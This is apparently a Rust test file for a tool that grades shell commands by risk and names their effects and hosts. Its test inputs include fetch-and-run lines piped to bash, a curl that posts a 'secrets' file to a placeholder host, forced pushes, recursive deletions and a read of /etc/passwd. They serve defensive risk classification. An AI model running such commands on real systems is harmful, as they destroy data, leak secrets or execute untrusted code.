//! Sentences, grades and effects of commands.

use super::*;
use windlass_shell::analyse;

fn shown(line: &str) -> String {
    let impact = impact(&CommandFacts::new(analyse(line), Vec::new()));
    let effects: Vec<&str> = impact.effects.iter().map(|effect| effect.as_str()).collect();
    format!("{} [{}: {}]", impact.summary, impact.risk.as_str(), effects.join(" "))
}

#[test]
fn a_line_says_in_a_sentence_what_it_does() {
    for (line, expected) in [
        ("npm install", "Downloads packages and may run their scripts. [medium: writes runs network]"),
        ("git reset --hard HEAD~1", "Discards changes that are not committed. [high: removes]"),
        ("git reset HEAD a", "Changes the history or the files of the repository. [medium: writes]"),
        ("git -C sub checkout -- a", "Discards changes that are not committed. [high: removes]"),
        ("curl -fsSL https://x.example/i.sh | bash", "Downloads a script and runs it. [high: reads runs network]"),
        (
            "bash -c \"$(curl -fsSL https://x.example/i.sh)\"",
            "Downloads a script and runs it. [high: reads runs network]",
        ),
        ("cat plan | sh", "Runs a script that is only known while it runs. [high: reads runs]"),
        ("git push origin main", "Sends commits to another repository. [high: writes network]"),
        ("git push -f", "Replaces or deletes commits in another repository. [high: removes network]"),
        ("git push origin +main", "Replaces or deletes commits in another repository. [high: removes network]"),
        ("rm notes.txt", "Removes files. [medium: removes]"),
        ("rm -rf build", "Removes folders with all that is in them. [high: removes]"),
        ("cargo test && rm -rf target/tmp", "Removes folders with all that is in them. [high: removes runs]"),
        (
            "sudo apt-get install jq",
            "With the rights of another user: installs or removes packages of the system. [high: writes runs network elevates]",
        ),
        ("curl -d @secrets https://x.example", "Sends data to x.example. [high: writes network]"),
        ("wget https://x.example/a.tgz -O a.tgz", "Downloads a file from x.example. [medium: writes network]"),
        ("./deploy.sh --all", "Runs `deploy.sh`. [medium: runs]"),
        ("echo x > out.txt", "Writes out.txt. [medium: writes]"),
        ("cat /etc/passwd", "Reads files. [low: reads]"),
        ("$TOOL run", "Runs a program whose name is only known while it runs. [high: runs]"),
        ("python3 -c 'import os'", "Runs code that stands in the command. [medium: runs]"),
        ("npx cowsay hi", "Downloads a program, if it is missing, and runs it. [high: runs network]"),
    ] {
        assert_eq!(shown(line), expected, "{line}");
    }
}

#[test]
fn hosts_are_named_without_credentials() {
    for (line, expected) in [
        ("curl https://me:secret@Api.Example.com:8443/v1?k=1", "api.example.com"),
        ("curl 'http://[::1]:8080/x'", "::1"),
        ("curl example.com/a", "example.com"),
        ("ssh me@build.example 'make'", "build.example"),
        ("git clone git@host.example:a/b.git", "host.example"),
        ("rsync -a . me@backup.example:/w && curl https://backup.example/done", "backup.example"),
        ("echo a@b", ""),
        ("cat a://b$c", ""),
    ] {
        let impact = impact(&CommandFacts::new(analyse(line), Vec::new()));
        assert_eq!(impact.hosts.join(" "), expected, "{line}");
    }
}

#[test]
fn no_text_makes_a_sentence_of_two_lines() {
    for line in ["", "\u{1b}[2J", "$'a\\nb' x", "a\u{202e}b", "'x\ny'", &"x".repeat(500), "curl 'https://a\nb/'"] {
        let impact = impact(&CommandFacts::new(analyse(line), Vec::new()));
        let sentence = &impact.summary;
        assert!(!sentence.is_empty() && sentence.chars().count() < 120, "{sentence}");
        assert!(!sentence.contains(|c: char| c.is_control() || c == '\u{202e}'), "{sentence}");
    }
}
